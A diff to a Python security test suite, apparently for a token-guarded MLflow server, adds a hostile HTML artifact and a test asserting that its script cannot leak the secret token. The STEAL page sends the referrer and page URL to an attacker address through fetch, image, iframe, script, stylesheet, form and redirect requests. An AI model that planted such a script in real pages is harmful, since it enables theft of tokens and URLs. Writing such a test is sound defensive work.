@@ -329,6 +329,46 @@ def test_a_page_at_another_port_gets_neither_token_nor_data(browser: Any, guarde
         attack(tab, guarded.port)
 
 
+STEAL = """
+<!doctype html><body><h1>a stranger's page</h1><script>
+const there = "%s", said = document.referrer + " " + location.href;
+const to = (kind) => there + kind + "?" + encodeURIComponent(said);
+fetch(to("fetch"), {mode: "no-cors"}).catch(() => 0);
+new Image().src = to("image");
+for (const kind of ["iframe", "script", "embed", "video"]) {
+  const element = document.createElement(kind); element.src = to(kind);
+  document.body.append(element);
+}
+const sheet = document.createElement("link"); sheet.rel = "stylesheet"; sheet.href = to("style");
+document.head.append(sheet);
+const form = document.createElement("form"); form.action = to("form"); document.body.append(form);
+try { form.submit(); } catch (error) {}
+document.querySelector("h1").textContent = "it ran: " + document.referrer;
+setTimeout(() => { location.href = to("location"); }, 1500);
+</script></body>
+"""
+
+
+def test_a_page_among_the_artifacts_learns_no_token_and_tells_nobody(
+    browser: Any, guarded: Server, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """MLflow shows it in a frame: its scripts run, and hear and say nothing."""
+    monkeypatch.setenv("MLFLOW_TRACKING_TOKEN", SECRET)
+    client = connect(guarded.uri)
+    run = client.create_run("0").info.run_id
+    with attacker(guarded.port) as (address, noted):
+        client.log_text(run, STEAL % address, "page.html")
+        with Tab(browser) as tab:
+            tab.page.goto(f"{guarded.uri}/{SECRET}")
+            tab.page.get_by_text("Experiments").first.wait_for()
+            tab.page.goto(f"{guarded.uri}/{SECRET}/#/experiments/0/runs/{run}/artifacts/page.html")
+            shown = tab.page.frame_locator("iframe").get_by_text("it ran")
+            shown.wait_for()
+            assert SECRET not in shown.inner_text()
+            tab.page.wait_for_timeout(4000)
+        assert noted == []
+
+
 def test_a_link_without_the_token_works_in_a_browser_that_has_it(
     browser: Any, guarded: Server
 ) -> None:
